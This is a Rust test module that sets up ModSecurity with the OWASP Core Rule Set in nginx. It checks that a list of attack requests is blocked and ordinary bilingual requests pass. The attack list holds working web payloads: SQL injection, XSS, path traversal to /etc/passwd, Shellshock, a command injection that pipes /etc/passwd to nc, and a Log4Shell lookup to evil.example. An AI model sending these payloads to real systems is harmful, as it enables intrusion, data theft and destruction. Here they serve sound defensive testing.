//! ModSecurity with the OWASP Core Rule Set in nginx, as the stand-in for AWS WAF's managed rules.

use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{Result, ensure};

use super::stack::Stack;
use crate::cloud::nginx::send;
use crate::system;

/// What the stand-in adds to the Core Rule Set's own: the API's methods, photos, and the size of a backup of one's own.
const RULES: &str = "SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit 12582912
SecRequestBodyNoFilesLimit 1048576
SecRule REQUEST_HEADERS:Content-Type \"^application/json\" \"id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON\"
SecAction \"id:900200,phase:1,nolog,pass,t:none,setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE'\"
SecAction \"id:900220,phase:1,nolog,pass,t:none,setvar:'tx.allowed_request_content_type=|application/json| |image/webp| |image/jpeg| |image/png|'\"
Include /etc/modsecurity/crs/crs-setup.conf
Include /usr/share/modsecurity-crs/rules/*.conf
";

/// Writes the rules' file.
pub(super) fn rules(folder: &Path) -> Result<PathBuf> {
    let file = folder.join("modsecurity.conf");
    fs::write(&file, RULES)?;
    Ok(file)
}

/// An attack: what it is, and its request without `Host` and the end.
const ATTACKS: [(&str, &str); 14] = [
    ("SQL injection", "GET /api/v1/recipes?q=1%27%20OR%20%271%27%3D%271 HTTP/1.1"),
    ("SQL injection", "GET /api/v1/recipes?q=1%20UNION%20SELECT%20login%2Cpassword%20FROM%20account-- HTTP/1.1"),
    ("SQL injection", "GET /api/v1/restaurants?lat=37.5&lon=127%3B%20DROP%20TABLE%20account HTTP/1.1"),
    ("SQL injection", "GET /api/v1/foods?q=%27%3B%20WAITFOR%20DELAY%20%270%3A0%3A9%27-- HTTP/1.1"),
    ("cross-site scripting", "GET /recipes?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1"),
    ("cross-site scripting", "GET /map?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E HTTP/1.1"),
    ("cross-site scripting", "GET /api/v1/recipes?q=javascript%3Aalert(document.cookie) HTTP/1.1"),
    ("path traversal", "GET /recipes?q=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1"),
    ("path traversal", "GET /api/v1/photos/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1"),
    ("shellshock", "GET /api/v1/catalogue HTTP/1.1\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd"),
    ("command injection", "GET /api/v1/recipes?q=%3Bcat%20%2Fetc%2Fpasswd%7Cnc%2010.0.0.1%2080 HTTP/1.1"),
    ("Log4Shell", "GET /api/v1/recipes?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D HTTP/1.1"),
    ("a scanner", "GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7 (https://sqlmap.org)"),
    ("a scanner", "GET /.env HTTP/1.1\r\nUser-Agent: Nikto/2.5.0"),
];

/// What people ask, in both languages; the last part of each is its body, where it has one.
const ORDINARY: [(&str, &str); 16] = [
    ("GET / HTTP/1.1", ""),
    ("GET /recipes HTTP/1.1", ""),
    ("GET /map?lat=37.4979&lon=127.0276&diet=vegan&open=fri-1930 HTTP/1.1", ""),
    ("GET /manifest.webmanifest HTTP/1.1", ""),
    ("GET /sw.js HTTP/1.1", ""),
    ("GET /api/v1/catalogue HTTP/1.1", ""),
    ("GET /api/v1/restaurants?lat=37.4979&lon=127.0276&limit=20 HTTP/1.1", ""),
    ("GET /api/v1/restaurants?lat=52.5219&lon=13.4132&q=falafel HTTP/1.1", ""),
    ("GET /api/v1/restaurants?lat=37.5663&lon=126.9779&q=%EB%B9%84%EB%B9%94%EB%B0%A5 HTTP/1.1", ""),
    ("GET /api/v1/recipes?q=%EB%91%90%EB%B6%80%20%EA%B5%AC%EC%9D%B4&kcal=..500&without=peanut HTTP/1.1", ""),
    ("GET /api/v1/recipes?q=mac%20%26%20cheese HTTP/1.1", ""),
    ("GET /api/v1/recipes?q=salt%20and%20pepper%20or%20chilli HTTP/1.1", ""),
    ("GET /api/v1/foods?q=%EA%B9%80%EC%B9%98 HTTP/1.1", ""),
    ("GET /api/v1/foods?q=yogurt%2C%20plain%20(low%20fat) HTTP/1.1", ""),
    (
        "POST /api/v1/sessions HTTP/1.1",
        r#"{"login": "nobody_here", "password": "otter's-eats; 13 -- barley", "device": "Chrome", "token": false}"#,
    ),
    (
        "POST /api/v1/accounts HTTP/1.1",
        r#"{"handle": "밥", "email": "bap@example.com", "password": "오늘은 뭐 먹지? 같이 먹어요!", "token": false}"#,
    ),
];

fn request(lines: &str, body: &str) -> String {
    let agent = if lines.contains("User-Agent") { "" } else { "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n" };
    let content = if body.is_empty() {
        String::new()
    } else {
        format!("Content-Type: application/json\r\nContent-Length: {}\r\n", body.len())
    };
    format!("{lines}\r\nHost: hnh.example\r\n{agent}Accept: */*\r\nConnection: close\r\n{content}\r\n{body}")
}

pub(super) fn run() -> Result<()> {
    system::ensure(&system::FIREWALL)?;
    let stack = Stack::start(1, true)?;
    let mut passed = Vec::new();
    for (what, lines) in ATTACKS {
        let status = send(stack.front, &request(lines, ""))?.status;
        if status != 403 {
            passed.push(format!("{what} ({lines}): {status}"));
        }
    }
    ensure!(passed.is_empty(), "the firewall let pass:\n{}", passed.join("\n"));
    println!("    {} attacks are answered with 403", ATTACKS.len());
    for (lines, body) in ORDINARY {
        let status = send(stack.front, &request(lines, body))?.status;
        ensure!(status != 403, "the firewall blocks ordinary use: {lines}");
        ensure!(status < 500, "{lines} is answered with {status}");
    }
    println!("    {} ordinary requests in Korean and English pass", ORDINARY.len());
    drop(stack);

    let bare = Stack::start(1, false)?;
    for (what, lines) in ATTACKS {
        let status = send(bare.front, &request(lines, ""))?.status;
        ensure!(status < 500, "{what} without the firewall is answered with {status}");
    }
    // The tables are there, and nobody got in.
    let answer = send(bare.front, &request("GET /api/v1/account HTTP/1.1", ""))?.status;
    ensure!(answer == 401, "somebody who is not signed in is answered with {answer}");
    println!("    without the firewall the same requests do no harm");
    Ok(())
}
